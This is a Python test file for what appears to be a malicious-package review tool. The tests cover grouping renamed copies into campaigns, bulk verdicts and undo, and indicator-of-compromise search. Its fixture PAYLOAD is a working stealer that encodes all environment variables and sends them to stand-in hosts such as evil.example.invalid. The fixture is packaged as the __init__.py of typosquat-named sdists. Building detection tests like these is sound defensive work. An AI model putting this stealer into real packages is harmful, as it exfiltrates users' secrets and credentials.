"""Campaigns: renamed copies of one payload group together; boilerplate never does."""

import io
import json
import tarfile

import pytest

from app.cli import main
from app.core.campaigns import grouping as camp
from app.core.decisions import Decision
from app.core.store.db import Store

PAYLOAD = """import os, base64, urllib.request

def _send(data):
    req = urllib.request.Request("https://{host}/collect", data=data)
    return urllib.request.urlopen(req, timeout=3)

def harvest():
    blob = base64.b64encode(repr(dict(os.environ)).encode())
    for attempt in range(3):
        try:
            return _send(blob)
        except OSError:
            continue

harvest()
"""

SETUP = """from setuptools import setup
setup(name="{name}", version="{version}", packages=["{pkg}"])
"""


def sdist(tmp_path, name, version, files):
    path = tmp_path / f"{name}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for rel, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def malicious(tmp_path, name, version="1.0.0", host="203.0.113.9"):
    pkg = name.replace("-", "_")
    return sdist(
        tmp_path,
        name,
        version,
        {
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
            "setup.py": SETUP.format(name=name, version=version, pkg=pkg),
            f"{pkg}/__init__.py": PAYLOAD.format(host=host).replace("harvest", f"h_{pkg}"),
        },
    )


def benign(tmp_path, name, version="2.0.0"):
    pkg = name.replace("-", "_")
    return sdist(
        tmp_path,
        name,
        version,
        {
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
            "setup.py": SETUP.format(name=name, version=version, pkg=pkg),
            f"{pkg}/__init__.py": "def add(a, b):\n    return a + b\n",
        },
    )


@pytest.fixture
def store(tmp_path):
    s = Store.open(tmp_path / "store.db")
    yield s
    s.close()


def queue(store, path, name, version):
    item, _ = store.add_item("pypi", name, [version], artifact_path=str(path), source="manual")
    return item.id


def test_renamed_copies_group_and_boilerplate_stays_apart(tmp_path, store):
    a = queue(store, malicious(tmp_path, "reqeusts-helper"), "reqeusts-helper", "1.0.0")
    b = queue(
        store,
        malicious(tmp_path, "colorama-extra", "0.3", "evil.example.invalid"),
        "colorama-extra",
        "0.3",
    )
    c = queue(
        store, malicious(tmp_path, "pyyaml-fast", "9.9.9", "198.51.100.4"), "pyyaml-fast", "9.9.9"
    )
    plain = queue(store, benign(tmp_path, "tiny-math"), "tiny-math", "2.0.0")
    plain2 = queue(store, benign(tmp_path, "tiny-strings"), "tiny-strings", "2.0.0")
    assert camp.index_pending(store) == 5
    assert camp.index_pending(store) == 0, "unchanged items are not fingerprinted again"
    found = camp.regroup(store)
    assert len(found) == 1
    assert sorted(found[0].item_ids) == sorted([a, b, c])
    assert plain not in found[0].item_ids and plain2 not in found[0].item_ids
    assert "evil.example.invalid" in found[0].iocs.domains
    assert {"203.0.113.9", "198.51.100.4"} <= found[0].iocs.ips
    assert found[0].capabilities, "members share at least one capability"
    # The id is stable when the grouping is recomputed.
    assert camp.regroup(store)[0].id == found[0].id


def test_a_payload_in_a_second_release_file_still_groups(tmp_path, store):
    a = queue(store, malicious(tmp_path, "first-copy"), "first-copy", "1.0.0")
    b = queue(store, benign(tmp_path, "second-copy", "1.0.0"), "second-copy", "1.0.0")
    other_file_dir = tmp_path / "other-file"
    other_file_dir.mkdir()
    wheel_like = malicious(other_file_dir, "second-copy")  # the payload only in a second file
    store.attach_artifact(b, "new", str(wheel_like), None)
    camp.index_pending(store)
    (campaign,) = camp.regroup(store)
    assert sorted(campaign.item_ids) == sorted([a, b])
    assert camp.memberships(store)[b] == (campaign.id, 2)


def test_bulk_decision_and_bulk_undo(tmp_path, store):
    ids = [
        queue(store, malicious(tmp_path, f"pkg-copy{i}"), f"pkg-copy{i}", "1.0.0") for i in range(3)
    ]
    camp.index_pending(store)
    (campaign,) = camp.regroup(store)
    change, decided = camp.decide_campaign(
        store,
        campaign.id,
        Decision(
            verdict="malicious",
            action="remove_project",
            reason="same env stealer",
            reviewer="alice",
        ),
    )
    assert sorted(decided) == sorted(ids)
    for item_id in ids:
        current = store.current_decision(item_id)
        assert current.verdict == "malicious" and "campaign" in current.reason
        assert store.get_item(item_id).status == "decided"
    # One log entry per member.
    assert sum(1 for e in store.log(limit=50) if e.action == "decide") == 3
    # Undo one member alone, then the rest of the campaign at once.
    store.undo_last(reviewer="alice")
    assert sum(store.current_decision(i) is None for i in ids) == 1
    camp.undo_campaign(store, campaign.id)
    assert all(store.current_decision(i) is None for i in ids)
    assert all(store.get_item(i).status == "new" for i in ids)


def test_new_arrival_matching_a_decided_campaign_is_marked_and_ranked_first(tmp_path, store):
    first = [
        queue(store, malicious(tmp_path, f"old-copy{i}"), f"old-copy{i}", "1.0") for i in range(2)
    ]
    camp.index_pending(store)
    (campaign,) = camp.regroup(store)
    camp.decide_campaign(store, campaign.id, Decision(verdict="malicious", reviewer="bob"))
    other = queue(store, benign(tmp_path, "harmless"), "harmless", "2.0.0")
    store.set_risk(other, "high", 8.0)
    newcomer = queue(store, malicious(tmp_path, "brand-new-copy", "0.1"), "brand-new-copy", "0.1")
    camp.index_pending(store)
    groups = camp.regroup(store)
    assert groups[0].id == campaign.id and newcomer in groups[0].item_ids
    assert groups[0].undecided == [newcomer]
    assert camp.campaign_of(store, newcomer) == campaign.id
    top = store.list_items(status="new", limit=1)[0]
    assert top.id == newcomer and top.risk_level == "critical"
    assert set(first) <= set(groups[0].item_ids)


def test_ioc_search_finds_items_by_domain_url_and_ip(tmp_path, store):
    a = queue(store, malicious(tmp_path, "one-pkg", host="c2.example.invalid"), "one-pkg", "1.0.0")
    queue(store, benign(tmp_path, "two-pkg"), "two-pkg", "2.0.0")
    store.upsert_external_label(
        "pypi",
        "three-pkg",
        "1.0",
        "carol",
        {"verdict": "malicious", "evidence": [{"match": "c2.example.invalid"}]},
    )
    camp.index_pending(store)
    by_domain = camp.search_iocs(store, "example.invalid")
    assert [i["id"] for i in by_domain["items"]] == [a]
    assert by_domain["labels"][0]["project"] == "three-pkg"
    assert [i["id"] for i in camp.search_iocs(store, "https://c2.example.invalid/")["items"]] == [a]
    assert camp.search_iocs(store, "192.0.2.77")["items"] == []


def test_cli_campaigns_decide_and_ioc(tmp_path, capsys):
    db = str(tmp_path / "cli.db")
    for i in range(2):
        path = malicious(tmp_path, f"cli-copy{i}", host="203.0.113.50")
        assert main(["queue", "add", str(path), "--db", db]) == 0
    capsys.readouterr()
    assert main(["campaigns", "--json", "--db", db]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["schema"] == "vetbench.campaigns/1"
    (campaign,) = doc["campaigns"]
    assert campaign["size"] == 2
    assert (
        main(
            [
                "decide",
                "--campaign",
                str(campaign["id"]),
                "--verdict",
                "malicious",
                "--reviewer",
                "dana",
                "--yes",
                "--db",
                db,
            ]
        )
        == 0
    )
    out = capsys.readouterr().out
    assert "cli-copy0" in out and "cli-copy1" in out
    assert main(["ioc", "203.0.113.50", "--json", "--db", db]) == 0
    hits = json.loads(capsys.readouterr().out)
    assert len(hits["items"]) == 2 and all(i["campaign"] == campaign["id"] for i in hits["items"])
    assert main(["undo", "--campaign", str(campaign["id"]), "--db", db]) == 0
    assert main(["queue", "list", "--json", "--db", db]) == 0
    listed = capsys.readouterr().out
    assert '"decided"' not in listed


def test_cli_ioc_rejects_empty_value(tmp_path, capsys):
    assert main(["ioc", " ", "--db", str(tmp_path / "x.db")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "ioc wants" in err
